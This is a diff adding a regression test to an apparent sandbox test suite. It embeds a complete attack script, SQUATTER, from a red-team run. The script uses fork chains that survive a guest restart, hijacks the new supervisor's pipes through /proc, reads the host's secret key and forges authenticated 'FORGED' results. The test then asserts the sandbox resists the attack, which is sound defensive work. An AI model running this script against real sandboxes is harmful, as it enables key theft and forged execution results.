@@ -306,6 +306,107 @@ def test_a_background_command_cannot_replay_the_channel(jail: Sandbox) -> None:
     assert jail.run_code("21 * 2").text == "42"
 
 
+# Found by a red-team run (2026-11-24): chains of forks, each process forking and exiting,
+# so that one is always being born; when the guest restarts (here: its supervisor is killed
+# or its channel broken), a survivor opens the new supervisor's stdin and stdout, stops it,
+# reads the host's key off the pipe and answers every later call itself.
+SQUATTER = r"""
+import hashlib, json, os, signal, struct, sys, time
+def supervisors():
+    found = []
+    for p in os.listdir("/proc"):
+        try:
+            if p.isdigit() and b"-I\0-S\0-c" in open("/proc/%s/cmdline" % p, "rb").read():
+                found.append(int(p))
+        except OSError:
+            pass
+    return sorted(found)
+def read(fd, n):
+    data = b""
+    while len(data) < n:
+        chunk = os.read(fd, n - len(data))
+        if not chunk:
+            raise EOFError
+        data += chunk
+    return data
+def take_over(pid):
+    inp = os.open("/proc/%d/fd/0" % pid, os.O_RDONLY)
+    out = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
+    os.kill(pid, signal.SIGSTOP)
+    (n,) = struct.unpack(">I", read(inp, 4))
+    key = bytes.fromhex(json.loads(read(inp, n))["key"])
+    seq = [0]
+    def send(obj):
+        body = json.dumps(obj).encode()
+        mac = hashlib.blake2b(seq[0].to_bytes(8, "big"), digest_size=16, key=key,
+                              person=b"sandlot-g2h")
+        mac.update(body)
+        seq[0] += 1
+        body = mac.digest() + body
+        os.write(out, struct.pack(">I", len(body)) + body)
+    send({"id": 0, "event": "ready", "protocol": 4, "pid": pid, "python": "3", "uid": 65534})
+    while True:
+        (n,) = struct.unpack(">I", read(inp, 4))
+        call = json.loads(read(inp, n)[16:])
+        result = {"exit_code": 0, "stdout": "FORGED\n", "stderr": "", "text": "'FORGED'"}
+        send({"id": call.get("id"), "event": "result", "result": result})
+def chain(before, deadline):
+    k = 0
+    while time.time() < deadline:
+        try:
+            if os.fork():
+                os._exit(0)
+        except OSError:
+            time.sleep(0.01)
+            continue
+        k += 1
+        new = [p for p in supervisors() if p not in before] if k % 8 == 0 else []
+        if new:
+            try:
+                os.close(os.open("/tmp/claim", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
+                take_over(min(new))
+            except (OSError, EOFError, ValueError):
+                pass
+            os._exit(0)
+    os._exit(0)
+before = set(supervisors())
+deadline = time.time() + float(sys.argv[1])
+for _ in range(8):
+    if os.fork() == 0:
+        os.setsid()
+        chain(before, deadline)
+time.sleep(1.0)
+for pid in before:  # end the guest: kill its supervisor, or write junk into its channel
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+    try:
+        fd = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
+        os.write(fd, struct.pack(">I", 20) + b"x" * 20)
+    except OSError:
+        pass
+print("launched")
+"""
+
+
+def test_a_process_left_from_before_a_restart_cannot_answer_for_the_next_guest(
+    jail: Sandbox,
+) -> None:
+    # The key is secret only if nothing of the sandbox's runs when the next guest gets it:
+    # on gVisor, whose kill(-1) missed processes being forked, the container is restarted.
+    jail.files.write("squatter.py", SQUATTER)
+    jail.commands.run("python3 squatter.py 8", timeout_s=20)
+    for _ in range(3):
+        time.sleep(0.5)
+        mine = jail.commands.run("echo mine; exit 3")
+        code = jail.run_code("6 * 7")
+        assert "FORGED" not in mine.stdout and mine.exit_code in (3, 137), mine
+        assert code.text in ("42", None) and "FORGED" not in code.stdout, code
+    assert jail.commands.run("echo check").stdout == "check\n"
+    assert jail.run_code("6 * 7").text == "42"
+
+
 def test_spill_files_of_background_commands_share_a_quarter_of_the_disk(jail: Sandbox) -> None:
     # Each background command may spill at most disk/4/cap: several flooding ones together
     # stay far below the disk cap, and the sandbox keeps working.
